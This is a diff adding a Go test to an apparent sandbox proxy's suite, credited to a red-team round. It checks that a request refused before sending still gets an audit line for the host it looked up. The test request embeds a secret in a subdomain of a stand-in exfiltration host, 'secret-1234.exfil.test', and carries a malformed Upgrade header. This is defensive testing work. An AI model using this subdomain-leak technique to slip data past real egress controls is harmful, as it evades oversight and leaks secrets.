@@ -16,6 +16,7 @@ import (
 	"time"
 
 	"github.com/cordon-sandbox/cordon/audit"
+	"github.com/cordon-sandbox/cordon/policy"
 )
 
 func TestUnauthLimiter(t *testing.T) {
@@ -289,4 +290,38 @@ func statusOf(t *testing.T, proxy, request string) int {
 		return 0
 	}
 	return resp.StatusCode
+}
+
+// TestPlainRefusedBeforeSendingLogged: a plain-HTTP request that net/http's
+// reverse proxy refuses before cordon's transport sees it (an Upgrade
+// that is no token) has a line naming its host, which was looked up. It
+// had none, and its name had reached the resolver (red team, round 8).
+func TestPlainRefusedBeforeSendingLogged(t *testing.T) {
+	s, aw, token, logPath := newTestServer(t, "*.exfil.test:*", 0)
+	resolver := &heldResolver{release: make(chan struct{})}
+	close(resolver.release)
+	s.cfg.Dialer.Resolver = resolver
+	// The address it answers is allowed too, so nothing is refused for
+	// it: were the request sent, it would go to this machine.
+	rules, err := policy.Compile([]string{"*.exfil.test:*", "127.0.0.1:*"}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.cfg.Rules, s.cfg.Dialer.Rules = rules, rules
+	proxy := serveOnLoopback(t, s, aw)
+	auth := "Proxy-Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("cordon:"+token)) + "\r\n"
+	code := statusOf(t, proxy, "GET http://secret-1234.exfil.test/ HTTP/1.1\r\nHost: secret-1234.exfil.test\r\nConnection: Upgrade\r\nUpgrade: caf\xe9\r\n"+auth+"\r\n")
+	if code != http.StatusBadGateway {
+		t.Errorf("answered %d, want 502", code)
+	}
+	if asked := resolver.asked(); !slices.Equal(asked, []string{"secret-1234.exfil.test"}) {
+		t.Fatalf("looked up %v", asked)
+	}
+	data, err := os.ReadFile(logPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(data), `"host":"secret-1234.exfil.test"`) {
+		t.Errorf("the name looked up is in no line:\n%s", data)
+	}
 }
